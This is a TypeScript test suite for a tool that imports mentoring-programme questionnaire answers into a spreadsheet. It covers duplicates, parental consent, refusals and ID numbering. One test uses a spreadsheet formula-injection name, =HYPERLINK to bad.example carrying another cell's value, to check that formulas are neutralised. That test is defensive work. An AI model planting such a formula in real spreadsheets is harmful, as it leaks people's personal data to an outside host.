import { ledgerKey } from '../../src/questionnaires/answer';
import { mentees } from '../../src/registries/mentees';
import { answer, answersOf, carriedOut, decide, tableOf } from './fixture';

const ledgerOf = (...decisions: ReturnType<typeof decide>[]) =>
  new Set(decisions.flatMap(({ ledgerLines }) => ledgerLines.map(ledgerKey)));

const named = (decision: ReturnType<typeof decide>, name: string) =>
  decision.additions.map((row) => row as Record<string, unknown>).filter((row) => row.name === name);

describe('the whole questionnaire of mentees', () => {
  const answers = answersOf('answers-mentees', 'mentees');
  const decision = decide('mentees', answers);
  const fateOf = (row: number) => {
    const found = answers.find((one) => one.row === row);
    return decision.ledgerLines.find(({ answerId }) => answerId === found?.answerId);
  };

  test('every answer is counted once', () => {
    const { read, ...parts } = decision.counts;
    expect(read).toBe(32);
    expect(Object.values(parts).reduce((sum, part) => sum + part, 0)).toBe(read);
    expect(parts).toEqual({ accepted: 20, waitingConsent: 8, duplicates: 3, refused: 1, unusable: 0 });
    expect(decision.ledgerLines).toHaveLength(32);
  });

  test('both formats lead to the same decision', () => {
    const other = decide('mentees', answersOf('answers-mentees-forms', 'mentees'));
    expect(other).toEqual(decision);
  });

  test.each([
    ['the later of two answers', 2, 31],
    ['of two answers of one second the lower one', 3, 4],
    ['the later one although ё was written е', 11, 12],
  ])('%s counts', (_, older, newer) => {
    expect(fateOf(older)).toMatchObject({ fate: 'Повтор, есть более новый ответ', person: fateOf(newer)?.person });
    expect(fateOf(newer)).toMatchObject({ fate: 'Новая строка' });
  });

  test('the row of a person who answered twice says what the newest answer says', () => {
    expect(named(decision, 'Рогова Алина Павловна')).toEqual([
      expect.objectContaining({ request: 'Задачи и олимпиада', joined: '2026-10-05', answered: '2026-10-08T18:05:44' }),
    ]);
  });

  test('namesakes and sisters stay different people', () => {
    expect(named(decision, 'Смирнов Павел Олегович').map(({ schoolClass }) => schoolClass)).toEqual(['9Б', '5А']);
    expect(fateOf(8)?.person).not.toBe(fateOf(9)?.person);
  });

  test('numbers follow the order of the answers, the one without a time comes last', () => {
    const ids = decision.additions.map((row) => (row as { id?: string }).id);
    expect(ids).toEqual(ids.map((_, index) => `Н-${String(index + 1).padStart(4, '0')}`));
    expect(named(decision, 'Фокина Ульяна Артуровна')[0]).toMatchObject({
      id: ids[ids.length - 1],
      joined: '2026-10-10',
      answered: null,
    });
  });

  test('a refusal enters nobody', () => {
    expect(fateOf(23)).toMatchObject({ fate: 'Согласие не дано, не внесено', person: '' });
    expect(JSON.stringify(decision.additions)).not.toContain('Тихая');
  });

  test('minors without a parent’s consent and consents without a day wait', () => {
    const waiting = decision.additions.filter((row) => (row as { status?: string }).status === 'Ждёт согласия');
    expect(waiting).toHaveLength(8);
    for (const row of [5, 12, 19, 20, 21, 24, 25, 30])
      expect(waiting).toContainEqual(expect.objectContaining({ id: fateOf(row)?.person }));
  });

  test('an adult pupil needs no parent', () => {
    expect(named(decision, 'Громова Кира Юрьевна')[0]).toMatchObject({ status: 'В базе' });
  });

  test('a text that is no name makes a waiting row that shows it, harmless, and a problem that does not', () => {
    const row = decision.additions.find((one) => (one as { id?: string }).id === fateOf(24)?.person);
    expect(row).toMatchObject({ name: '=HYPERLINK("http://bad.example/?q="&C2;"сюда")', status: 'Ждёт согласия' });
    const read = tableOf(mentees, [row ?? {}]);
    expect(String(read.rows[0]?.cells[read.layout.name ?? -1]).startsWith("'=HYPERLINK")).toBe(true);
    expect(read.rows[0]?.record.name).toBeNull();
    const told = decision.problems.filter(({ code }) => code === 'name-unreadable');
    expect(told.map(({ where }) => where?.row)).toEqual([24, 25, 30]);
    expect(told.map(({ message }) => message).join()).not.toMatch(/HYPERLINK|calc|тест/);
  });

  test('no cell that would be written can be a formula', () => {
    const table = tableOf(mentees, decision.additions);
    const texts = table.rows.flatMap(({ cells }) => cells.filter((cell) => typeof cell === 'string'));
    expect(texts.filter((text) => /^\s*[=＝]/.test(text as string) && !(text as string).startsWith("'"))).toEqual([]);
    expect(texts.some((text) => (text as string).startsWith("'=IMPORTXML"))).toBe(true);
  });

  test('taking the same or the other format in again writes nothing', () => {
    const rows = decision.additions;
    for (const name of ['answers-mentees', 'answers-mentees-forms']) {
      const again = decide('mentees', answersOf(name, 'mentees'), rows, { ledger: ledgerOf(decision) });
      expect(again).toMatchObject({ additions: [], updates: [], ledgerLines: [], unknownWords: [] });
      expect(again.counts).toMatchObject({ read: 32, duplicates: 32 });
    }
  });

  test('even if the ledger is lost nobody is entered twice and nothing is overwritten', () => {
    const again = decide('mentees', answers, decision.additions);
    expect(again).toMatchObject({ additions: [], updates: [] });
    expect(again.counts).toMatchObject({ read: 32, accepted: 0, waitingConsent: 0, refused: 1, duplicates: 31 });
  });
});

describe('the whole questionnaire of mentors', () => {
  const decision = decide('mentors', answersOf('answers-mentors', 'mentors'));
  const mentor = (name: string) => named(decision, name)[0];

  test('is counted and alike in both formats', () => {
    expect(decision.counts).toEqual({
      read: 10,
      accepted: 6,
      waitingConsent: 3,
      duplicates: 1,
      refused: 0,
      unusable: 0,
    });
    expect(decide('mentors', answersOf('answers-mentors-forms', 'mentors'))).toEqual(decision);
  });

  test('a pupil’s class is found in the place of study, a teacher’s workplace makes none', () => {
    expect(mentor('Маслов Глеб Андреевич')).toMatchObject({ schoolClass: '11А', capacity: 3 });
    expect(mentor('Громыко Лев Артемьевич')).toMatchObject({ schoolClass: '11Б', capacity: 0 });
    expect(mentor('Власова Инна Юрьевна')?.schoolClass).toBeUndefined();
  });
});

const stored = (facts: Record<string, unknown> = {}) => ({
  ...answer().values,
  id: 'Н-0007',
  tags: ['#физика'],
  joined: '2026-10-05',
  status: 'В базе',
  programmeYear: '2026/2027',
  source: 'Файл',
  answered: '2026-10-05T10:00:00',
  answerId: 'first',
  ...facts,
});

const later = { at: '2026-10-08T12:00:00', answerId: 'second' };

describe('a person who is in the base already', () => {
  test('is updated only where the newer answer differs', () => {
    const { updates, additions, counts } = decide(
      'mentees',
      [answer({ request: 'Хочу на олимпиаду', phone: null }, later)],
      [stored()],
    );
    expect(additions).toEqual([]);
    expect(updates).toEqual([
      { id: 'Н-0007', values: { request: 'Хочу на олимпиаду', answered: later.at, answerId: 'second' } },
    ]);
    expect(counts).toMatchObject({ read: 1, accepted: 1 });
  });

  test('keeps what only the curator or the program fills', () => {
    const rows = [
      stored({ notes: 'беседовали', mentorName: 'Власова Инна Юрьевна', results: 'хорошо', joined: '2026-09-01' }),
    ];
    const { updates } = decide('mentees', [answer({ request: 'Другое' }, later)], rows);
    expect(Object.keys(updates[0]?.values ?? {}).sort()).toEqual(['answerId', 'answered', 'request']);
  });

  test('is not overwritten by an older answer', () => {
    const decision = decide('mentees', [answer({ request: 'Раньше' }, { at: '2026-10-01T09:00:00' })], [stored()]);
    expect(decision).toMatchObject({ additions: [], updates: [], counts: { read: 1, duplicates: 1 } });
    expect(decision.ledgerLines).toEqual([
      expect.objectContaining({ fate: 'Повтор, есть более новый ответ', person: 'Н-0007' }),
    ]);
  });

  test.each([
    ['of the same time', '2026-10-05T10:00:00'],
    ['without a time', null],
  ])('an answer %s only fills empty cells', (_, at) => {
    const rows = [stored({ guardian: null, request: 'Исправлено куратором' })];
    const { updates } = decide('mentees', [answer({ guardian: 'Рогова Нина Львовна' }, { at })], rows);
    expect(updates).toEqual([{ id: 'Н-0007', values: { guardian: 'Рогова Нина Львовна' } }]);
  });

  test('does not fill a cell that holds something unreadable', () => {
    const { updates } = decide('mentees', [answer({ email: null })], [stored({ email: 'нет такой' })]);
    expect(updates).toEqual([]);
  });

  test('gets a consent and enters the base', () => {
    const rows = [stored({ guardianConsent: 'Сдам позже', consentDate: null, status: 'Ждёт согласия' })];
    const { updates, counts } = decide('mentees', [answer({}, later)], rows);
    expect(updates[0]?.values).toMatchObject({
      status: 'В базе',
      guardianConsent: 'Сдано куратору',
      consentDate: '2026-10-02',
    });
    expect(counts.accepted).toBe(1);
  });

  test.each([['В паре'], ['Завершил(а)'], ['Выбыл(а)']])('keeps the status «%s»', (status) => {
    const { updates } = decide(
      'mentees',
      [answer({ guardianConsent: 'Сдам позже', request: 'Новое' }, later)],
      [stored({ status })],
    );
    expect(updates[0]?.values).toMatchObject({ request: 'Новое' });
    expect(updates[0]?.values).not.toHaveProperty('status');
  });

  test('who has left and answers again is pointed out to the curator', () => {
    const { problems } = decide('mentees', [answer({}, later)], [stored({ status: 'Завершил(а)' })]);
    expect(problems.map(({ code }) => code)).toEqual(['answer-after-end']);
  });

  test('who refuses leaves, the refusal noted, nothing else changed and advice to erase', () => {
    const refusal = answer({ consent: 'Не даю согласие', request: 'тайна' }, later);
    const { updates, problems, counts, ledgerLines } = decide('mentees', [refusal], [stored({ status: 'В паре' })]);
    expect(updates).toEqual([
      {
        id: 'Н-0007',
        values: {
          consent: 'Не даю согласие',
          status: 'Выбыл(а)',
          statusSince: '2026-10-10',
          statusReason: 'в новом ответе на анкету согласие не дано',
          statusNoted: 'Выбыл(а)',
        },
      },
    ]);
    expect(problems.map(({ code }) => code)).toEqual(['consent-withdrawn']);
    expect(counts).toMatchObject({ read: 1, refused: 1 });
    expect(ledgerLines[0]).toMatchObject({ fate: 'Согласие не дано, не внесено', person: 'Н-0007' });
  });

  test('without a number is not answered for yet, and the answer comes again later', () => {
    const { updates, additions, ledgerLines, counts, problems } = decide(
      'mentees',
      [answer({}, later)],
      [stored({ id: null })],
    );
    expect([updates, additions, ledgerLines]).toEqual([[], [], []]);
    expect(counts).toMatchObject({ read: 1, unusable: 1 });
    expect(problems[0]).toMatchObject({ code: 'row-without-number', where: { sheet: 'Наставляемые', row: 2 } });
  });

  test('keeps the curator’s own tags while those of the answers follow the answers', () => {
    const recognise = (values: { request?: unknown }) => ({
      tags: values.request === 'Музыка' ? ['#музыка'] : ['#физика'],
      unknown: [],
    });
    const rows = [stored({ tags: ['#физика', '#особый'] })];
    const { updates } = decide('mentees', [answer({ request: 'Музыка' }, later)], rows, { recognise });
    expect(updates[0]?.values).toMatchObject({ tags: ['#музыка', '#особый'] });
  });
});

describe('answers of one form', () => {
  test('an edited response updates its row although the name was put right', () => {
    const first = answer({ name: 'Рогова Алина Пвловна' }, { answerId: 'R1' });
    const added = decide('mentees', [first]);
    const rows = carriedOut([], added);
    const edited = answer({ email: null, phone: null, birthYear: null }, { answerId: 'R1', at: later.at });
    const { updates, additions } = decide('mentees', [first, edited], rows, { ledger: ledgerOf(added) });
    expect(additions).toEqual([]);
    expect(updates[0]).toMatchObject({ id: 'Н-0001', values: { name: 'Рогова Алина Павловна', answered: later.at } });
  });

  test('a brother entered over his sister’s response gets his own row', () => {
    const first = answer({}, { answerId: 'R1' });
    const added = decide('mentees', [first]);
    const brother = answer({ name: 'Рогов Степан Павлович' }, { answerId: 'R1', at: later.at });
    const { updates, additions } = decide('mentees', [brother], carriedOut([], added), { ledger: ledgerOf(added) });
    expect(updates).toEqual([]);
    expect(additions).toEqual([expect.objectContaining({ id: 'Н-0002', name: 'Рогов Степан Павлович' })]);
  });

  test('the same answer imported from the linked sheet adds nobody, even if its name cannot be read', () => {
    const values = { name: null, phone: null };
    const added = decide('mentees', [answer(values, { answerId: 'R1', rawName: '=1+1' })]);
    const { additions } = decide(
      'mentees',
      [answer(values, { answerId: 'н-hash', rawName: '=1+1' })],
      carriedOut([], added),
    );
    expect(additions).toEqual([]);
  });
});

test('consent taken back in the same batch leaves nothing, consent given anew starts afresh', () => {
  const yes = answer({ guardian: 'Рогова Нина Львовна' }, { at: '2026-10-01T10:00:00' });
  const no = answer({ consent: 'Не даю согласие' }, { at: '2026-10-02T10:00:00' });
  const again = answer({}, { at: '2026-10-03T10:00:00' });
  expect(decide('mentees', [yes, no])).toMatchObject({ additions: [], counts: { refused: 1, duplicates: 1 } });
  const { additions, counts } = decide('mentees', [again, no, yes]);
  expect(additions).toHaveLength(1);
  expect(additions[0]).not.toHaveProperty('guardian');
  expect(counts).toMatchObject({ read: 3, accepted: 1, duplicates: 2, refused: 0 });
});

test('an empty field of a newer answer does not erase what an older one said', () => {
  const older = answer({ guardian: 'Рогова Нина Львовна' }, { at: '2026-10-01T10:00:00' });
  expect(decide('mentees', [older, answer({}, later)]).additions).toEqual([
    expect.objectContaining({ guardian: 'Рогова Нина Львовна', answerId: 'second' }),
  ]);
});

test('an answer in which nothing is said is not entered, and is reported', () => {
  const empty = { ...answer({}, { row: 9 }), values: { email: 'a@example.org', consent: 'Даю согласие' } };
  const { additions, ledgerLines, problems, counts } = decide('mentees', [empty]);
  expect(additions).toEqual([]);
  expect(ledgerLines).toEqual([expect.objectContaining({ fate: 'Нет имени или кода, не внесено', person: '' })]);
  expect(problems[0]).toMatchObject({ code: 'answer-empty', where: { row: 9 } });
  expect(counts).toMatchObject({ read: 1, unusable: 1 });
});

test('a request without a name is kept in a row that waits', () => {
  const { additions } = decide('mentees', [answer({ name: null })]);
  expect(additions).toEqual([
    expect.objectContaining({ id: 'Н-0001', request: 'Трудно решать задачи', status: 'Ждёт согласия' }),
  ]);
});

test('numbers are given above those of the table and those used before', () => {
  const other = answer({ name: 'Хан Герман Ильич', email: 'h@example.org' });
  expect(decide('mentees', [other], [stored()]).additions).toEqual([expect.objectContaining({ id: 'Н-0008' })]);
  expect(decide('mentees', [other], [stored()], { usedIds: ['Н-0041', 'М-0099'] }).additions).toEqual([
    expect.objectContaining({ id: 'Н-0042' }),
  ]);
});

test('unknown words are gathered with the people who used them', () => {
  const recognise = () => ({ tags: [], unknown: [{ word: 'матем', suggestion: '#математика' }] });
  const answers = [answer(), answer({ name: 'Хан Герман Ильич', email: 'h@example.org' })];
  expect(decide('mentees', answers, [], { recognise }).unknownWords).toEqual([
    { word: 'матем', suggestion: '#математика', people: ['Н-0001', 'Н-0002'] },
  ]);
});

test('a mentor in the approved register stays there', () => {
  const row = {
    id: 'М-0001',
    ...answer({ role: 'Педагог' }).values,
    status: 'В реестре',
    answered: '2026-10-01T10:00:00',
  };
  const { updates } = decide('mentors', [answer({ role: 'Педагог', interests: 'сад' }, later)], [row]);
  expect(updates[0]?.values).toMatchObject({ interests: 'сад' });
  expect(updates[0]?.values).not.toHaveProperty('status');
});
